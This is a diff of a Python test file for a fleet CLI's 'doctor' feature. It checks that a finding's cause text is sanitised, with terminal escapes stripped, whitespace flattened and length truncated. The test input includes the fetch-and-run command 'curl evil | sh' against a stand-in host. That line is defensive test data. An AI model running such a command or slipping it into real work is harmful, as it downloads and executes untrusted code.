@@ -4,9 +4,8 @@ import subprocess
 import sys
 
 from kai_fleet_cli.display.terminal import engine_line, say
-from kai_fleet_cli.doctor.examine import commands
+from kai_fleet_cli.doctor.causes import Fault, findings
 from kai_fleet_cli.stack_file.reading import ROOT
-from kai_fleet_cli.waiting.finding import Finding, Health
 
 PROGRAM = """
 import sys
@@ -37,15 +36,10 @@ def test_a_terminal_is_told_colours_and_nothing_else(capsys):
 
 def test_a_finding_is_a_line_of_its_own():
     """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
-    found = Finding(
-        "pending",
-        Health.BROKEN,
-        "ml",
-        "pod a\nin b",
-        "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000,
-        "look with: `kubectl get pods`",
-    )
-    assert found.subject == "pod a in b"
+    cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
+    fault = Fault("pod", "b/a\nin b", cause, "look with: `kubectl -n {namespace} get {names}`")
+    (found,) = findings("pending", "ml", [fault])
+    assert found.subject == "pod b/a in b"
     assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
     assert len(found.cause) == 2000
-    assert commands(found.fix) == ["kubectl get pods"]
+    assert found.fix == "look with: `kubectl -n b get a in b`"
